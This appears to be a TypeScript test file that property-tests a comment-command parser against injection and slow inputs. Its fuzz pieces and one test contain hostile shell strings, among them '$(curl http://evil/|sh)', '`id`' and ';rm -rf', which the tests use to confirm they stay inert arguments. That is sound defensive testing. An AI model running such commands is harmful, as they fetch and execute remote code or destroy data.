import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandWords, parseCommands } from '../../src/core/parse-commands.ts';
import { computingMs } from '../harness/computing.ts';

const pieces = fc.oneof(
  fc.constantFrom(
    '/test ',
    '/ok-to-test ',
    '/hold ',
    '\n',
    '\r',
    '\r\n',
    '<!--',
    '-->',
    '```',
    '~~~',
    '>',
    ' ',
    ',',
    '"',
    '$(curl evil)',
    '`id`',
    '\u202e',
    '\u200b',
    '\u2028',
    '- ',
    '1. ',
  ),
  fc.string({ unit: 'binary', maxLength: 20 }),
);
const hostile = fc.array(pieces, { maxLength: 60, size: 'max' }).map((parts) => parts.join(''));

describe('comment command injection (intake A9)', () => {
  it('whatever is written: known words, at most 20, plain ASCII names without blanks or commas', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const { commands, refused } = parseCommands(text);
        expect(commands.length).toBeLessThanOrEqual(20);
        expect(refused.length).toBeLessThanOrEqual(21);
        for (const { word, args } of commands) {
          expect(commandWords).toContain(word);
          if (word === 'hold') continue;
          for (const arg of args) expect(arg).toMatch(/^[\x20-\x7e]+$/);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('a command never comes out of a line that does not hold it', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const lines = text.split(/\r\n?|\n/).filter((line) => line.startsWith('/'));
        expect(parseCommands(text).commands.length).toBeLessThanOrEqual(lines.length);
      }),
      { numRuns: 1_000 },
    );
  });

  it('what a shell would carry out is nothing but a name', () => {
    expect(parseCommands('/test $(curl http://evil/|sh) `id` ;rm -rf').commands).toEqual([
      {
        word: 'test',
        args: ['$(curl', 'http://evil/|sh)', '`id`', ';rm', '-rf'],
        rest: '$(curl http://evil/|sh) `id` ;rm -rf',
      },
    ]);
  });

  it.each`
    what                     | text
    ${'64 KB of one line'}   | ${`/test ${'x'.repeat(65_530)}`}
    ${'64 KB of fences'}     | ${'```\n'.repeat(16_384)}
    ${'64 KB of comments'}   | ${'<!---->'.repeat(9_362)}
    ${'64 KB of open ones'}  | ${'<!--'.repeat(16_384)}
    ${'64 KB of list signs'} | ${'- '.repeat(32_768)}
    ${'64 KB of numbers'}    | ${'1. '.repeat(21_845)}
    ${'64 KB of quotes'}     | ${`/why ${'"'.repeat(65_530)}`}
    ${'64 KB of carriage'}   | ${'\r'.repeat(65_536)}
    ${'64 KB of slashes'}    | ${'/\n'.repeat(32_768)}
  `('$what is read in a moment', ({ text }) => {
    expect(computingMs(() => parseCommands(text))).toBeLessThan(500);
  });
});
